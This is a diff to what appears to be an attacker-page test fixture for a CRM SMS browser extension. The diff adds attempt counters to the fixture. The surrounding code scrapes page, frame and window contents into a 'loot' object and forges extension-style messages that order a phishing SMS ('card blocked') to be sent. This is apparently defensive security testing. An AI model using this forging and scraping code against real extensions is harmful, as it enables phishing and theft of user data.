@@ -6,6 +6,10 @@
   const PHISH = 'Ваша карта заблокирована: bank-secure.example';
   const PHISH_PHONE = '+7 900 000-66-66';
   const loot = { texts: [], srcs: [], messages: [], keys: '', inputData: '', composed: [], finds: [], windows: [], errors: [] };
+  // How much it has tried, for the test to wait on (and to know it did try): sweeps, sweeps that found and
+  // attacked a host of the extension's UI, rounds of forged messages, frames and opened windows forged into.
+  const tries = { sweeps: 0, uiSweeps: 0, forges: 0, framesForged: 0, windowsForged: 0 };
+  window.__tries = tries;
   const mine = new WeakSet();
   let active = !sessionStorage.getItem('attacker-passive');
   window.__loot = loot;
@@ -72,7 +76,10 @@
     if (!opened) return;
     attempt('opened.location', () => note(loot.srcs, opened.location.href));
     attempt('opened.document', () => note(loot.texts, opened.document.body.innerText));
-    setTimeout(() => forgeInto(opened), 500);
+    setTimeout(() => {
+      forgeInto(opened);
+      tries.windowsForged++;
+    }, 500);
   }, true);
 
   const byName = (root, name) => root.querySelector(`[data-crm-sms="${name}"]`);
@@ -125,11 +132,15 @@
   const isExtensionHost = (el) => el.tagName.startsWith('CRM-SMS') || el.hasAttribute('data-crm-sms-adapter') || (el.shadowRoot && !mine.has(el));
 
   const sweep = () => {
+    let attackedUi = false;
     note(loot.texts, document.title);
     for (const el of document.querySelectorAll('*')) {
       if (mine.has(el)) continue;
       if (el.shadowRoot) keepRoot(el.shadowRoot);
-      if (isExtensionHost(el) && active) attackHost(el);
+      if (isExtensionHost(el) && active) {
+        attackHost(el);
+        attackedUi = true;
+      }
       if (el instanceof HTMLIFrameElement) {
         note(loot.srcs, el.src);
         attempt('frame location', () => note(loot.srcs, el.contentWindow.location.href));
@@ -144,6 +155,8 @@
       if (active) forgeInto(window.frames[i]);
     }
     loot.bodyText = document.body.innerText;
+    tries.sweeps++;
+    if (attackedUi) tries.uiSweeps++;
   };
 
   /** Messages made to look like the extension's own (its envelopes are in its public source). */
@@ -162,6 +175,7 @@
     }
   };
   const forge = () => {
+    tries.forges++;
     forgeInto(window);
     const answer = JSON.stringify({ id: 'x', values: { to: '79000006666', text: PHISH }, send: true });
     window.dispatchEvent(new CustomEvent('crm-sms:globals-answer', { detail: answer }));
@@ -191,7 +205,10 @@
         frame.dataset.attacker = path;
         frame.style.cssText = 'width:400px;height:300px;border:1px solid red';
         frame.src = `${origin}/${path}`;
-        frame.addEventListener('load', () => forgeInto(frame.contentWindow));
+        frame.addEventListener('load', () => {
+          forgeInto(frame.contentWindow);
+          tries.framesForged++;
+        });
         document.body.append(frame);
       }
       toOpen = paths.map((path) => `${origin}/${path}`);
